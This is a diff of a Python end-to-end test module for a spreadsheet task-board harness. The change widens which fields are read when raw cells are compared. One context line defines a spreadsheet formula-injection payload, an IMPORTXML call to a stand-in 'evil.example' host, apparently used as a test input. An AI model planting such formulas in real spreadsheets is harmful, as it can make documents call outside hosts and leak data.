@@ -18,8 +18,9 @@ from tests.e2e.failures.helpers import (
     start_period,
 )
 from tests.harness.assertions import assert_answer
+from tests.harness.fakes.workbooks import EVERYTHING
 from tests.harness.office import MANAGER, TEAM, WEBHOOK_SECRET, Office
-from tests.harness.snapshots import FIELDS, difference
+from tests.harness.snapshots import difference
 
 EVIL = '=IMPORTXML("http://evil.example";"//a")'
 
@@ -156,7 +157,7 @@ def outside_owned_cells(office: Office) -> dict[str, Any]:
     ranges = [
         f"'{title}'!A1:{last}12" for title, last in (("Бэклог", "P"), ("В работе", "O"), ("Готово", "I"))
     ]
-    resource = read_raw(office, fields=FIELDS, ranges=ranges)
+    resource = read_raw(office, fields=EVERYTHING, ranges=ranges)
     del resource["developerMetadata"]
     book = office.book()
     free = {
@@ -218,7 +219,9 @@ def looks_by_task(office: Office) -> dict[str, list[Any]]:
     tab = office.book().tab("backlog")
     own = {tab.columns[column] for column in OWNED["backlog"]}
     rows: dict[int, list[Any]] = {}
-    cells = cells_of(sheet_of(read_raw(office, fields=FIELDS, ranges=[f"'{tab.title}'!A1:O12"]), tab.title))
+    cells = cells_of(
+        sheet_of(read_raw(office, fields=EVERYTHING, ranges=[f"'{tab.title}'!A1:O12"]), tab.title)
+    )
     for (row, column), cell in cells.items():
         if column not in own:
             kept = {
